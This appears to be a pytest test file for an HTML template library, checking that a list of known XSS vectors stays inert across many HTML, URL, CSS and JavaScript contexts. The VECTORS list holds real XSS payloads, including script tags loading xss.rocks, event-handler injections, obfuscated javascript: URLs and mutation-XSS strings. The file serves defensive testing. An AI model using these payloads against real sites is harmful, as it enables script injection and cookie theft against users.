"""Well-known XSS vectors (after OWASP's XSS Filter Evasion Cheat Sheet and the mXSS literature)
rendered in every context we accept, judged by html5lib: the vector adds no element and no
attribute, no <script>, no on* handler and no javascript:/vbscript:/data: URL, and its text
comes back as written wherever the value is text.

In the contexts we refuse (script and style bodies, event handlers), every vector is refused
before it is looked at.
"""

from __future__ import annotations

import functools
from collections.abc import Callable
from dataclasses import dataclass
from string.templatelib import Interpolation, Template
from urllib.parse import unquote

import pytest
from hostile import assert_inert, comments, find, parse, structure, text_of

from htmltemplates import UNSAFE_CSS, UNSAFE_URL, TemplateSyntaxError, html
from htmltemplates.runtime.javascript import js_string

VECTORS = [
    # plain tags and handlers
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<img src=x onerror=alert(1)//",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg/onload=alert('XSS')>",
    "<body onload=alert(1)>",
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD4K">',
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    '<XSS STYLE="behavior: url(xss.htc);">',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<form><button formaction=javascript:alert(1)>X</button></form>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    # javascript: and friends, with the usual obfuscations
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "\x0bjavascript:alert(1)",
    " &#14;  javascript:alert('XSS');",
    "jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:1",
    "javascript&colon;alert(1)",
    "javascript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    # breaking out of attributes, elements and comments
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "'-alert(1)-'",
    '" onfocus="alert(1)" autofocus="',
    "' onfocus='alert(1)' autofocus='",
    " onfocus=alert(1) autofocus ",
    "x onmouseover=alert(1)",
    "`onmouseover=alert(1)",
    "\\\";alert('XSS');//",
    "';alert(String.fromCharCode(88,83,83))//';alert(1)//\";alert(1)//--></SCRIPT>\">'>",
    "</title><script>alert(1)</script>",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    "</textarea><script>alert(1)</script>",
    "</textarea ><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script>",
    "--!><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    # mutation XSS and foreign content
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    # already-encoded and template-language payloads (harmless text for us)
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<scr\x00ipt>alert(1)</script>",
    "\u2028<script>alert(1)</script>\u2029",
]


def identity(value: str) -> object:
    return value


@dataclass(frozen=True)
class Context:
    """A place a value can go: the static text around it, how the value is wrapped (a dict for
    a spread, a template...), and where its text should come back (tag, attribute or None for
    text content, and the shape of that text)."""

    before: str
    after: str
    wrap: Callable[[str], object] = identity
    back: tuple[str, str | None, str] | None = None
    # what else the value may legitimately become in an attribute (a filter's sentinel)
    sentinel: str | None = None
    # a URL part: the value comes back percent-encoded
    encoded: bool = False

    def render(self, value: str) -> str:
        return html(Template(self.before, Interpolation(self.wrap(value), "value"), self.after))


CONTEXTS = {
    "text": Context("<div>", "</div><i>end</i>", back=("div", None, "{}")),
    "text-in-p": Context("<p>a ", " b</p>", back=("p", None, "a {} b")),
    "nested-template": Context(
        "<div>", "</div>", wrap=lambda v: t"<span>{v}</span>", back=("span", None, "{}")
    ),
    "list-of-templates": Context(
        "<ul>", "</ul>", wrap=lambda v: [t"<li>{v}</li>", "x"], back=("li", None, "{}")
    ),
    "option": Context("<select><option>", "</option></select>", back=("option", None, "{}")),
    "title": Context("<title>", "</title><i>end</i>", back=("title", None, "{}")),
    "textarea": Context("<textarea>", "</textarea><i>end</i>", back=("textarea", None, "{}")),
    "comment": Context("<!-- ", " --><i>end</i>"),
    "comment-tight": Context("<!--", "--><i>end</i>"),
    "attr-double": Context('<div title="', '">x</div>', back=("div", "title", "{}")),
    "attr-single": Context("<div title='", "'>x</div>", back=("div", "title", "{}")),
    "attr-unquoted": Context("<div title=", ">x</div>", back=("div", "title", "{}")),
    "attr-partial": Context('<div title="a ', ' b">x</div>', back=("div", "title", "a {} b")),
    "attr-unquoted-partial": Context("<div title=a", " id=i>", back=("div", "title", "a{}")),
    "attr-in-noscript": Context(
        '<noscript><p title="', '">x</p></noscript>', back=("p", "title", "{}")
    ),
    "url-unquoted": Context("<a href=", ">x</a>", back=("a", "href", "{}"), sentinel=UNSAFE_URL),
    "url-double": Context('<a href="', '">x</a>', back=("a", "href", "{}"), sentinel=UNSAFE_URL),
    "url-single": Context("<a href='", "'>x</a>", back=("a", "href", "{}"), sentinel=UNSAFE_URL),
    "url-img-src": Context("<img src=", ">", back=("img", "src", "{}"), sentinel=UNSAFE_URL),
    "url-form-action": Context(
        "<form action=", "></form>", back=("form", "action", "{}"), sentinel=UNSAFE_URL
    ),
    "resource-path": Context(
        '<embed src="/media/', '">', back=("embed", "src", "/media/{}"), encoded=True
    ),
    "resource-https": Context(
        '<object data="https://cdn.example/',
        '"></object>',
        back=("object", "data", "https://cdn.example/{}"),
        encoded=True,
    ),
    "url-path": Context(
        '<a href="https://example.com/',
        '">x</a>',
        back=("a", "href", "https://example.com/{}"),
        encoded=True,
    ),
    "url-relative-path": Context(
        '<a href="/users/', '">x</a>', back=("a", "href", "/users/{}"), encoded=True
    ),
    "url-query": Context(
        '<a href="/search?q=', '">x</a>', back=("a", "href", "/search?q={}"), encoded=True
    ),
    "url-fragment": Context('<a href="#', '">x</a>', back=("a", "href", "#{}"), encoded=True),
    "css-value": Context("<style>p { color: ", " }</style><i>end</i>"),
    "css-string": Context("<style>p::after { content: '", "' }</style><i>end</i>"),
    "css-url": Context("<style>p { background: url(", ") }</style><i>end</i>"),
    "css-url-path": Context('<style>p { background: url("/img/', '") }</style><i>end</i>'),
    "style-attr-value": Context('<div style="color: ', '; margin: 0">x</div>'),
    "style-attr-string": Context("<div style=\"font-family: '", "'\">x</div>"),
    "svg-style-value": Context("<svg><style>p { fill: ", " }</style></svg><i>end</i>"),
    "srcset-path": Context(
        '<img srcset="/img/', ' 2x">', back=("img", "srcset", "/img/{} 2x"), encoded=True
    ),
    "refresh-url": Context(
        '<meta http-equiv="refresh" content="0; url=/go/',
        '">',
        back=("meta", "content", "0; url=/go/{}"),
        encoded=True,
    ),
    "class": Context("<div class=", ">x</div>", back=("div", "class", "{}")),
    "class-partial": Context('<div class="btn ', '">x</div>', back=("div", "class", "btn {}")),
    "class-list": Context(
        "<div class=", ">x</div>", wrap=lambda v: ["btn", v], back=("div", "class", "btn {}")
    ),
    "class-dict": Context(
        "<div class=", ">x</div>", wrap=lambda v: {v: True}, back=("div", "class", "{}")
    ),
    "spread-title": Context(
        "<div ", ">x</div>", wrap=lambda v: {"title": v, "id": "i"}, back=("div", "title", "{}")
    ),
    "spread-href": Context(
        "<a ", ">x</a>", wrap=lambda v: {"href": v}, back=("a", "href", "{}"), sentinel=UNSAFE_URL
    ),
    "spread-after-static": Context(
        '<a href="/home" ',
        ">x</a>",
        wrap=lambda v: {"href": v, "class": v},
        back=("a", "href", "{}"),
        sentinel=UNSAFE_URL,
    ),
    "data-dict": Context(
        "<div data=", ">x</div>", wrap=lambda v: {"x": v}, back=("div", "data-x", "{}")
    ),
    "aria-dict": Context(
        "<div aria=", ">x</div>", wrap=lambda v: {"label": v}, back=("div", "aria-label", "{}")
    ),
    "style-dict": Context(
        "<div style=",
        ">x</div>",
        wrap=lambda v: {"color": v},
        back=("div", "style", "color: {}"),
        sentinel=f"color: {UNSAFE_CSS}",
    ),
}


@functools.cache
def benign_structure(context: Context) -> list[tuple[str, tuple[str, ...]]]:
    """The elements and attributes the template has, with a harmless value in it."""
    return structure(context.render("x"))


# Characters the parser does not hand back as written (NUL, CR): no round-trip check for them.
_NORMALISED = ("\x00", "\r")


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize("context", CONTEXTS.values(), ids=CONTEXTS.keys())
def test_vector_is_inert(context: Context, vector: str) -> None:
    markup = context.render(vector)
    tree = parse(markup)
    assert structure(tree) == benign_structure(context), markup
    assert_inert(tree)
    if context.before.startswith("<!--"):
        assert len(comments(tree)) == 1, markup
    if context.back is None or any(c in vector for c in _NORMALISED):
        return
    tag, attribute, shape = context.back
    expected = shape.format(vector)
    if attribute is None:
        assert text_of(tree, tag) == expected, markup
        return
    actual = find(tree, tag).attrib[attribute]
    if context.sentinel is not None and actual == context.sentinel:
        return  # filtered: the sentinel, never the vector
    if context.encoded:
        actual = unquote(actual)
    assert actual == expected, markup


# Inside JavaScript strings: the page keeps its elements, and the script (or handler) the parser
# hands to JavaScript is exactly the static text around the escaped value, which has no quote,
# backslash, '<', '>', '&' or line break of its own (tests/lang/test_js_lexer.py runs it in node).
JS_STRINGS = {
    "script-single": (
        "<script>var a = '",
        "';</script><i>end</i>",
        "script",
        None,
        "var a = '{}';",
    ),
    "script-double": (
        '<script>var a = "',
        '";</script><i>end</i>',
        "script",
        None,
        'var a = "{}";',
    ),
    "script-template-literal": ("<script>`", "`;</script><i>end</i>", "script", None, "`{}`;"),
    "onclick-single": ("<a onclick=\"go('", "')\">x</a>", "a", "onclick", "go('{}')"),
    "onclick-double": ("<a onclick='go(\"", "\")'>x</a>", "a", "onclick", 'go("{}")'),
}


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize("around", JS_STRINGS.values(), ids=JS_STRINGS.keys())
def test_vector_in_a_javascript_string_stays_text(
    around: tuple[str, str, str, str | None, str], vector: str
) -> None:
    before, after, tag, attribute, shape = around

    def render(value: str) -> str:
        return html(Template(before, Interpolation(value, "value"), after))

    tree = parse(render(vector))
    assert structure(tree) == structure(parse(render("x")))
    node = find(tree, tag)
    code = node.text if attribute is None else node.attrib[attribute]
    escaped = js_string(vector)
    assert not set(escaped) & set("'\"`<>&\n\r\u2028\u2029")
    if not any(c in vector for c in _NORMALISED):
        assert shape.replace("{}", escaped) == code


REFUSED = {
    "script-regex": ("<script>var a = /", "/;</script>"),
    "script-data-block": ('<script type="text/x-template">', "</script>"),
    "style-selector": ("<style>", " { color: red }</style>"),
    "onclick-comment": ('<a onclick="go() /* ', ' */">x</a>'),
    "style-partial-comment": ('<p style="color: red /* ', ' */">'),
    "srcdoc-partial": ('<iframe srcdoc="<p>', '</p>"></iframe>'),
    "xmp": ("<xmp>", "</xmp>"),
    "javascript-url": ('<a href="javascript:', '">x</a>'),
    "url-scheme-prefix": ('<a href="java', '">x</a>'),
}


@pytest.mark.parametrize("vector", VECTORS[:12])
@pytest.mark.parametrize("around", REFUSED.values(), ids=REFUSED.keys())
def test_vector_in_a_refused_context_is_refused(around: tuple[str, str], vector: str) -> None:
    before, after = around
    rendered: list[str] = []
    with pytest.raises(TemplateSyntaxError):
        rendered.append(html(Template(before, Interpolation(vector, "value"), after)))
    assert rendered == []
